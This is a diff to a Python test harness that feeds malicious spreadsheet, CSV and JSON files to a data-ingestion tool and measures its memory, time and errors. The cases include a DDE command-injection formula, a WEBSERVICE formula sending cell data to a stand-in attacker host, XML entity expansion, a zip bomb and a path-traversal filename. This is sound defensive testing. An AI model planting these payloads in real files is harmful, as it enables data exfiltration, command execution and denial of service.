@@ -98,21 +98,42 @@ def _form(sample: Sample, cells: Callable[[openpyxl.worksheet.worksheet.Workshee
     return packed.getvalue()
 
 
+def _first_commune(sheet: openpyxl.worksheet.worksheet.Worksheet) -> int:
+    """The first row of a form to be filled in; the one above it is the example."""
+    return [cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value))][1]
+
+
 def _formulas(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
-    row = next(cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value)))
+    row = _first_commune(sheet)
     sheet.cell(row, 4).value = "=cmd|'/C calc'!A0"
     sheet.cell(row, 5).value = '=WEBSERVICE("http://attacker.invalid/?"&A1)'
     sheet.cell(row + 1, 3).value = '=HYPERLINK("http://attacker.invalid","Xã")'
 
 
 def _four_provinces(sheet: openpyxl.worksheet.worksheet.Worksheet) -> None:
-    row = next(cell.row for cell in sheet["B"] if re.fullmatch(r"\d{5}", str(cell.value)))
+    row = _first_commune(sheet)
     sheet.cell(row, 2).value, sheet.cell(row, 3).value = None, "Xã Tân Tiến"
 
 
+def _laughing(sheet: bytes) -> bytes:
+    return sheet.replace(b"?>", b"?>" + LAUGHS.encode(), 1).replace(b"<v>0</v>", b"<v>&l9;</v>", 1)
+
+
 def _bomb(sample: Sample) -> bytes:
-    sheet = b"<row><c><v>1</v></c></row>" * 41_000_000
-    return _book_with(sample, "xl/worksheets/sheet1.xml", lambda _: b"<worksheet><sheetData>" + sheet)
+    rows = b"<row><c><v>1</v></c></row>" * 40_000
+    packed = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(sample.form)) as book,
+        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive,
+    ):
+        for name in book.namelist():
+            if name != "xl/worksheets/sheet1.xml":
+                archive.writestr(name, book.read(name))
+        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
+            sheet.write(b"<worksheet><sheetData>")
+            for _ in range(1000):
+                sheet.write(rows)
+    return packed.getvalue()
 
 
 def _json(record: dict[str, str], size: int) -> bytes:
@@ -150,10 +171,10 @@ CASES = (
         "XML entity expansion in xlsx",
         "nso_monthly",
         "cuoi.xlsx",
-        lambda s: _book_with(s, "xl/worksheets/sheet1.xml", lambda x: LAUGHS.encode() + x),
+        lambda s: _book_with(s, "xl/worksheets/sheet1.xml", _laughing),
         WORKBOOK,
     ),
-    Case("path traversal in the name", "dossiers", "..\\..\\..\\etc\\passwd.csv", lambda s: _csv(s.dossiers)),
+    Case("path traversal in the name", "dossiers", "a\\..\\..\\..\\etc\\passwd.csv", lambda s: _csv(s.dossiers)),
     Case(
         "one JSON line of 200 MB, records",
         "dossiers",
@@ -208,7 +229,8 @@ def _environment(home: Path) -> dict[str, str]:
 def _sample(folder: Path) -> Sample:
     for feed in ("dossiers", "education_pupils", "nso_sdmx"):
         made = [*IOC, "sample", "--out", str(folder), "--feed", feed, "--dossiers", "60", "--months", "2"]
-        subprocess.run(made, check=True, capture_output=True, env=_environment(folder / "home"))
+        whole = {k: v for k, v in _environment(folder / "home").items() if k != "IOC_CONTRACTS"}
+        subprocess.run(made, check=True, capture_output=True, env=whole)
     book = next((folder / "education_pupils").glob("*.xlsx"))
     with next((folder / "dossiers").glob("*.csv")).open(encoding="utf-8", newline="") as file:
         rows = list(csv.DictReader(file))
@@ -235,14 +257,16 @@ def run_case(case: Case, content: bytes, home: Path) -> Outcome:
     started = time.monotonic()
     with (home / "out.txt").open("wb") as log:
         process = subprocess.Popen([*IOC, "run", "--feed", case.feed], stdout=log, stderr=log, env=_environment(home))
-        _, status, usage = os.wait4(process.pid, 0)
-        process.returncode = os.waitstatus_to_exitcode(status)
+        peak = 0.0
+        while process.poll() is None:  # not ru_maxrss: that begins with what the parent had at the fork
+            peak = max(peak, _peak(process.pid))
+            time.sleep(0.05)
     seconds = time.monotonic() - started
     printed = (home / "out.txt").read_text("utf-8", errors="replace")
     receipt = subprocess.run(
         [*IOC, "receipt", case.feed], capture_output=True, text=True, env=_environment(home), check=False
     ).stdout
-    found = Outcome(*_first(receipt), usage.ru_maxrss / 1024, seconds)
+    found = Outcome(*_first(receipt), peak, seconds)
     digest = hashlib.sha256(content).hexdigest()
     if "Traceback" in printed or process.returncode not in (0, 1, 2):
         found.wrong = f"exit {process.returncode}: {printed[-300:]}"
@@ -263,6 +287,16 @@ def _first(receipt: str) -> tuple[str, str]:
     at = after.index(said) if said else 0
     more = after[at + 1] if said[:1].isdigit() and at + 1 < len(after) else ""
     return f"{result} ({counts})" if counts else result, f"{said} {more}".strip()
+
+
+def _peak(pid: int) -> float:
+    """Peak resident memory of a process in MiB, since it began or since `clear_refs` was written; 0 when it is gone."""
+    try:
+        status = Path(f"/proc/{pid}/status").read_text(encoding="ascii", errors="replace")
+    except OSError:
+        return 0.0
+    found = re.search(r"VmHWM:\s+(\d+)", status)
+    return int(found.group(1)) / 1024 if found else 0.0
 
 
 class Endpoint:
@@ -318,10 +352,8 @@ class Endpoint:
             trust_env=False,
         )
         seconds = time.monotonic() - started
-        status = Path(f"/proc/{self.process.pid}/status").read_text(encoding="ascii", errors="replace")
-        peak = re.search(r"VmHWM:\s+(\d+)", status)
         result, said = _first(answer.text)
-        found = Outcome(f"{answer.status_code} {result}", said, int(peak.group(1)) / 1024 if peak else 0.0, seconds)
+        found = Outcome(f"{answer.status_code} {result}", said, _peak(self.process.pid), seconds)
         if answer.status_code >= 500 or not answer.text.strip():
             found.wrong = answer.text[:300] or "no answer"
         digest = hashlib.sha256(content).hexdigest()
